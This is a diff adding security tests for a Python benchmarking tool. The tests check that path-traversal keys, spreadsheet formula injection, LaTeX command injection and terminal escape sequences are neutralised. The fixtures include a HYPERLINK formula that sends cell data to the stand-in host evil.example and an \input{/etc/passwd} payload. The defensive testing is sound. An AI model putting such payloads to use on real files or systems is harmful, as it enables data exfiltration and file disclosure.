@@ -1,0 +1,88 @@
+"""Texts of files of others become names of files, cells, lines of a terminal: none of them acts."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import sqlite3
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+import opennandlab as onl
+from conftest import SHORT, SMALL
+from opennandlab.cli import _streams
+from opennandlab.cli import app as command_line
+from opennandlab.errors import StoreError
+from opennandlab.files import no_formula
+from opennandlab.store import Store, packing
+from opennandlab.store.exporting import export
+from opennandlab.store.latex import latex_table
+from stored import entry
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
+
+
+def test_a_store_whose_key_is_a_path_is_damaged(tmp_path: Path) -> None:
+    """Keys name files, such as the document that a button verifies; a store may come from anybody.
+
+    The checksum is right: whoever writes a store can compute it.
+    """
+    with Store.open(tmp_path) as store:
+        store.add([entry(1)])
+    key = "abcd/../../../evil"
+    checksum = packing.packed(dataclasses.replace(entry(1), key=key)).checksum
+    with sqlite3.connect(tmp_path / "runs.db") as connection:
+        connection.execute("UPDATE point SET key = ?, checksum = ?", (key, checksum))
+    connection.close()
+    with Store.open(tmp_path) as store, pytest.raises(StoreError, match="is not as it was kept"):
+        store.entry("abcd")
+    with Store.open(tmp_path / "other") as other:
+        with pytest.raises(StoreError, match="is not as it was kept"):
+            other.merge(tmp_path)
+        assert not other.keys()
+
+
+def test_no_cell_of_a_spreadsheet_is_a_formula(tmp_path: Path) -> None:
+    """Reports in CSV had no formulas; the exports of a store and of a comparison had."""
+    with Store.open(tmp_path / "store") as store:
+        store.add([entry(1, coordinates={FORMULA: FORMULA, "x": "-1.5"}, host=FORMULA)])
+        export(store, tmp_path / "rows.csv")
+    rows = list(csv.reader(io.StringIO((tmp_path / "rows.csv").read_text())))
+    cells = [cell for row in rows for cell in row]
+    assert f"'{FORMULA}" in cells
+    assert "-1.5" in cells
+    assert not [cell for cell in cells if no_formula(cell) != cell]
+
+
+def test_the_sheet_of_a_comparison_has_no_formulas(tmp_path: Path) -> None:
+    paths = [tmp_path / name for name in ("=1+1.json", "b.json")]
+    for path in paths:
+        onl.benchmark(SMALL, {**SHORT, "timed": False}).save(path)
+    words = ["compare", *map(str, paths), "--csv", str(tmp_path / "sheet.csv")]
+    assert CliRunner().invoke(command_line, words).exit_code == 0
+    text = (tmp_path / "sheet.csv").read_text()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert any("'=1+1" in cell for cell in cells)
+    assert not [cell for cell in cells if no_formula(cell) != cell]
+
+
+def test_no_cell_of_latex_is_a_command() -> None:
+    """A line end takes `[…]` and `*` behind it for its own, and an empty line ends a table."""
+    text = latex_table(["[4cm]", "b"], [["[1cm]\n\n\\input{/etc/passwd}", "*"], ["*", "%"]])
+    lines = text.splitlines()
+    assert lines[3] == r"{}[4cm] & b \\"
+    assert lines[5] == r"{}[1cm] \textbackslash{}input\{/etc/passwd\} & * \\"
+    assert lines[6] == r"{}* & \% \\"
+
+
+def test_a_note_does_not_act_on_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
+    """Warnings and errors of documents were printed as they stood, escape sequences and all."""
+    _streams.note("warning: \x1b]0;owned\x07\x1b[2J\nsecond line")
+    said = capsys.readouterr().err
+    assert "\x1b" not in said
+    assert "\x07" not in said
+    assert "\\x1b]0;owned" in said
+    assert "second line" in said
